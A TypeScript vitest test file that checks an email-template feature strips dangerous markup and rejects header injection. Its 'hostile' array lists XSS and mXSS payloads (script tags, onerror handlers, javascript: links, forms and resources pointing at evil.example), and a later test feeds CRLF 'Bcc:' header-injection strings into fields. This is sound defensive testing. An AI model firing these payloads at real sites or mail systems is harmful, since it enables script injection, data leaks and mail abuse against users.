import { beforeAll, expect, test } from 'vitest'
import { buildLoad, sendInquiry } from '../testing/inquiries.ts'
import { type TestApp, type TestUser, testApp } from '../testing/test-app.ts'

let app: TestApp
let user: TestUser
beforeAll(async () => {
  app = await testApp()
  user = await app.signUp()
  await user.account.saveUserInfo({ body: { userType: 'broker', trucksAmount: 1, loadboards: [] } })
})

/** Returns the email made from a template body; `isSaved: false` stores it directly, bypassing the check on saving. */
async function emailOf(template: string, { isSaved = true, load = buildLoad(), subject = 's' } = {}) {
  const { id } = await user.templates.createTemplate({
    body: { name: 'Body', subject, template: isSaved ? template : 'x', cc: [], labels: [] },
  })
  if (!isSaved) await app.pool.query('update template set template = $2 where id = $1', [id, template])
  await sendInquiry(user, { templateId: id, load })
  await app.runDueJobs()
  const email = app.sent.at(-1)
  if (!email) throw new Error('No email was sent')
  return email
}

/**
 * From the DOMPurify fixtures, the mXSS cheat sheet and email clients:
 * https://github.com/cure53/DOMPurify/tree/main/test
 */
const hostile = [
  '<script>alert(1)</script>Hi',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><path d="M0 0"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
  '<style>@import "https://evil.example/x.css"; p { color: red }</style><p>Hi</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
  '<a href="javascript:alert(1)">x</a><a href="JaVa\tScRiPt:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:msgbox(1)">x</a><a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<p style="background:url(https://evil.example/p.gif)">x</p><p style="behavior:url(x)">x</p><p style="width:expression(alert(1))">x</p>',
  '<p style="color:red;background-image:u\\72l(https://evil.example)">x</p>',
  '<div onclick=alert(1) onmouseover=alert(1) id=x name=y class=z>x</div>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<video src=x onerror=alert(1)></video><audio src=x></audio><source src=x>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><textarea></textarea><title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template><slot></slot><custom-element onx=1></custom-element>',
  '<!--[if mso]><script>alert(1)</script><![endif]--><!-- comment -->',
  '<table background="https://evil.example/x.gif"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<<script>script>alert(1)<</script>/script>',
  `<a href="https://ok.example" target=_blank ping="https://evil.example" download>x</a>`,
]

const tags =
  '(?:p|br|div|span|b|strong|i|em|u|s|a|ul|ol|li|blockquote|hr|h[1-3]|table|thead|tbody|tr|th|td|font|sub|sup|small)'
const attributes = `(?: (?:href="(?:https://ok\\.example|mailto:|tel:)[^"]*"|style="[\\w\\s#%.,:;-]*"|(?:width|align|cellpadding|color)="[\\w%#]*"))*`
const harmless = new RegExp(`^</?${tags}${attributes}(?: /)?>$`)

/** Returns the markup that an email must not contain. */
const unsafeMarkupIn = (html: string): string[] => html.match(/<[^>]*>?/g)?.filter((tag) => !harmless.test(tag)) ?? []

test.each(hostile)('[E13] %s becomes harmless text and layout, whether saved or stored directly', async (body) => {
  for (const isSaved of [true, false]) {
    const { html, text } = await emailOf(body, { isSaved })
    expect(unsafeMarkupIn(html)).toEqual([])
    expect(text).not.toMatch(/javascript:/i)
  }
})

test('[E13] allowed content stays as written: layout, inline styles, web, email and phone links', async () => {
  const body =
    '<table width="100%" cellpadding="4"><tbody><tr><td align="right" style="color:#c00;padding:4px"><b>$2,400</b></td></tr></tbody></table><a href="https://ok.example/a?b=1&amp;c=2">web</a> <a href="mailto:a@ok.example">mail</a> <a href="tel:+15550100">call</a>'

  expect((await emailOf(body)).html).toBe(body)
})

test('[D3.5] the email has a text alternative, no pixel, and no branding in the body', async () => {
  const email = await emailOf(
    '<p>Hi {{company}},</p><ul><li>Van</li><li>Empty in {{origin}}</li></ul><p><a href="https://ok.example">Our site</a></p>',
  )

  expect(email.text).toBe('Hi Quillon Logistics,\n\n * Van\n * Empty in Joliet, IL\n\nOur site [https://ok.example]')
  expect(email.html).toBe(
    '<p>Hi Quillon Logistics,</p><ul><li>Van</li><li>Empty in Joliet, IL</li></ul><p><a href="https://ok.example">Our site</a></p>',
  )
  expect(email.html + email.text).not.toMatch(/loadping|<img|https?:\/\/(?!ok\.example)/i)
})

test("[I11] a posting's value is plain text in body and subject: no markup, placeholder or line break", async () => {
  const values = [
    '<script>alert(1)</script>',
    '{{mc}} [[x]]',
    '"><img src=x onerror=alert(1)>',
    '&lt;b&gt; & "quotes" \'single\'',
  ]
  for (const company of values) {
    const { html, text, subject } = await emailOf('<p>{{company}}</p>', {
      subject: 'For {{company}}',
      load: buildLoad({ company }),
    })

    expect(text).toBe(company.replace(/ {2,}/g, ' '))
    expect(unsafeMarkupIn(html)).toEqual([])
    expect(subject).toBe(`For ${company}`)
  }
  const lines = 'Maria\r\nBcc: victim@x.example\u2028Subject: other'
  await app.pool.query('update account set signature = $2 where id = $1', [user.userId, lines])
  const signed = await emailOf('<p>{{signature}}</p>', { subject: 'From {{signature}}' })
  expect(signed.subject).toBe('From Maria Bcc: victim@x.example Subject: other')
  expect(signed.html).toBe('<p>Maria<br />Bcc: victim@x.example<br />Subject: other</p>')
  for (const company of ['a\r\nBcc: x@y.example', 'a\u2028b', 'a\u0000b'])
    await expect(emailOf('<p>{{company}}</p>', { load: buildLoad({ company }) })).rejects.toMatchObject({
      code: 'invalid-input',
    })
})
